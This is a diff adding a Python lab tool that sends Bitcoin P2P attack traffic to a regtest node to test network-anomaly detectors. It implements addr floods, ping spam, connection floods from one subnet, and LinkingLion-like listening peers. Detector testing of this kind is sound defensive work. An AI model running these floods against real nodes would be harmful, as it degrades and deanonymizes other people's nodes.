@@ -1,0 +1,214 @@
+#!/usr/bin/env python3
+"""peerlab attack tool: real P2P traffic against one lab node, to prove the detectors.
+
+Run as a container of the collector image joined to the lab's Docker network, from outside the
+topology (playbooks/attack.yml does this):
+  attack.py <kind> --target lab-n1:18444 [options]      (regtest)
+Kinds:
+  addr-flood      handshake, then --messages addr messages of 1000 addresses each (in 10.0.0.0/8)
+  ping-spam       handshake, then --pings pings, one every --every seconds
+  subnet-flood    --connections connections from this one address (one /24, one /16), held --hold s
+  inbound-flood   the same, then all dropped at once (inbound peers dropping)
+  connect-listen  --connections connections one after the other, each held --hold s answering pings
+                  and relaying nothing (LinkingLion-like)
+Speaks Bitcoin's P2P protocol (v1 transport) through python-bitcoinlib (Debian's python3-bitcoinlib).
+Prints one line per step and a JSON summary last.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import io
+import json
+import random
+import socket
+import sys
+import time
+from typing import Any
+
+import bitcoin
+from bitcoin.messages import MsgSerializable, msg_addr, msg_ping, msg_pong, msg_verack, msg_version
+from bitcoin.net import CAddress
+
+PROTOCOL = 70016
+USER_AGENT = b"/peerlab-attack:1/"
+
+
+def say(text: str) -> None:
+    print(f"peerlab-attack: {text}", flush=True)
+
+
+class Peer:
+    """One v1 P2P connection that has completed the version handshake."""
+
+    def __init__(self, host: str, port: int, timeout: float = 15.0) -> None:
+        self.sock = socket.create_connection((host, port), timeout=timeout)
+        self.buffer = b""
+        self.pings_answered = 0
+        version = msg_version(PROTOCOL)
+        version.nServices = 0
+        version.nTime = int(time.time())
+        version.addrTo.ip, version.addrTo.port = socket.gethostbyname(host), port
+        version.addrFrom.ip, version.addrFrom.port = "0.0.0.0", 0
+        version.nNonce = random.getrandbits(64)
+        version.strSubVer = USER_AGENT
+        version.nStartingHeight = 0
+        version.fRelay = False
+        self.send(version)
+        deadline = time.monotonic() + timeout
+        got_version = got_verack = False
+        while not (got_version and got_verack):
+            if time.monotonic() > deadline:
+                raise TimeoutError(f"{host}:{port}: no version handshake within {timeout:.0f} s")
+            message = self.receive(deadline - time.monotonic())
+            if message is None:
+                continue
+            if message.command == b"version":
+                got_version = True
+                self.send(msg_verack(PROTOCOL))
+            elif message.command == b"verack":
+                got_verack = True
+
+    def send(self, message: Any) -> None:
+        self.sock.sendall(message.to_bytes())
+
+    def receive(self, timeout: float) -> Any:
+        """The next message (None for one python-bitcoinlib does not know); pings are answered."""
+        self.sock.settimeout(max(0.05, timeout))
+        while True:
+            if len(self.buffer) >= 24:
+                size = int.from_bytes(self.buffer[16:20], "little")
+                if len(self.buffer) >= 24 + size:
+                    raw, self.buffer = self.buffer[: 24 + size], self.buffer[24 + size:]
+                    try:  # python-bitcoinlib prints a line for each command it does not know
+                        with contextlib.redirect_stdout(io.StringIO()):
+                            message = MsgSerializable.stream_deserialize(io.BytesIO(raw), protover=PROTOCOL)
+                    except Exception:  # bitcoinlib raises its own errors for layouts it does not know
+                        return None
+                    if message is not None and message.command == b"ping":
+                        self.send(msg_pong(PROTOCOL, message.nonce))
+                        self.pings_answered += 1
+                    return message
+            chunk = self.sock.recv(65536)
+            if not chunk:
+                raise ConnectionError("the node closed the connection")
+            self.buffer += chunk
+
+    def listen(self, seconds: float) -> None:
+        """Read (answering pings) for `seconds`, sending nothing of our own."""
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            try:
+                self.receive(deadline - time.monotonic())
+            except TimeoutError:
+                break
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+def flood_addresses(count: int, seed: int) -> list[CAddress]:
+    """Addresses in 10.0.0.0/8: bitcoind counts and rate-limits them like any, but its address
+    manager keeps only routable ones, so the node never tries to connect out of the lab to them."""
+    rng = random.Random(seed)
+    out = []
+    for _ in range(count):
+        address = CAddress(PROTOCOL)
+        address.nTime = int(time.time()) - rng.randrange(3600)
+        address.nServices = 1 | 8 | 1024  # NETWORK, WITNESS, NETWORK_LIMITED
+        address.ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+        address.port = 8333
+        out.append(address)
+    return out
+
+
+def addr_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    peer = Peer(host, port)
+    sent = 0
+    for index in range(args.messages):
+        message = msg_addr(PROTOCOL)
+        message.addrs = flood_addresses(1000, seed=index)
+        peer.send(message)
+        sent += 1000
+        say(f"sent addr #{index + 1}: 1000 addresses")
+        peer.listen(0.5)
+    peer.listen(args.hold)
+    peer.close()
+    return {"addresses": sent}
+
+
+def ping_spam(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    peer = Peer(host, port)
+    for index in range(args.pings):
+        peer.send(msg_ping(PROTOCOL, random.getrandbits(64)))
+        say(f"sent ping #{index + 1}")
+        peer.listen(args.every)
+    peer.listen(args.hold)
+    peer.close()
+    return {"pings": args.pings}
+
+
+def connections(host: str, port: int, args: argparse.Namespace, drop: bool) -> dict[str, Any]:
+    peers = []
+    for index in range(args.connections):
+        peers.append(Peer(host, port))
+        say(f"connection #{index + 1} up")
+    deadline = time.monotonic() + args.hold
+    while time.monotonic() < deadline:
+        for peer in peers:
+            peer.listen(min(0.2, max(0.0, deadline - time.monotonic())))
+    for peer in peers:
+        peer.close()
+    say(f"{'dropped' if drop else 'closed'} {len(peers)} connections")
+    return {"connections": len(peers), "held": args.hold}
+
+
+def connect_listen(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    for index in range(args.connections):
+        peer = Peer(host, port)
+        peer.listen(args.hold)
+        peer.close()
+        say(f"connection #{index + 1}: listened {args.hold} s, relayed nothing, left")
+        time.sleep(0.5)
+    return {"connections": args.connections, "held": args.hold}
+
+
+KINDS = {
+    "addr-flood": lambda host, port, args: addr_flood(host, port, args),
+    "ping-spam": lambda host, port, args: ping_spam(host, port, args),
+    "subnet-flood": lambda host, port, args: connections(host, port, args, drop=False),
+    "inbound-flood": lambda host, port, args: connections(host, port, args, drop=True),
+    "connect-listen": lambda host, port, args: connect_listen(host, port, args),
+}
+# Per kind: (connections, hold seconds).
+DEFAULTS = {"subnet-flood": (6, 40.0), "inbound-flood": (8, 25.0), "connect-listen": (4, 5.0)}
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description="peerlab attack tool (P2P, against one lab node)")
+    parser.add_argument("kind", choices=sorted(KINDS))
+    parser.add_argument("--target", required=True, help="host:port of the node's P2P listener")
+    parser.add_argument("--messages", type=int, default=3)
+    parser.add_argument("--pings", type=int, default=8)
+    parser.add_argument("--every", type=float, default=1.0)
+    parser.add_argument("--connections", type=int, default=0)
+    parser.add_argument("--hold", type=float, default=-1)
+    args = parser.parse_args(argv)
+    connections_default, hold_default = DEFAULTS.get(args.kind, (1, 3.0))
+    args.connections = args.connections or connections_default
+    args.hold = hold_default if args.hold < 0 else args.hold
+    bitcoin.SelectParams("regtest")  # a lab tool: regtest's network magic only
+    host, _sep, port = args.target.rpartition(":")
+    started = time.time()
+    try:
+        summary = KINDS[args.kind](host, int(port), args)
+    except (OSError, TimeoutError, ConnectionError) as error:
+        print(json.dumps({"attack": args.kind, "target": args.target, "error": str(error)}), flush=True)
+        return 1
+    print(json.dumps({"attack": args.kind, "target": args.target, "started": started, "ended": time.time(), **summary}), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
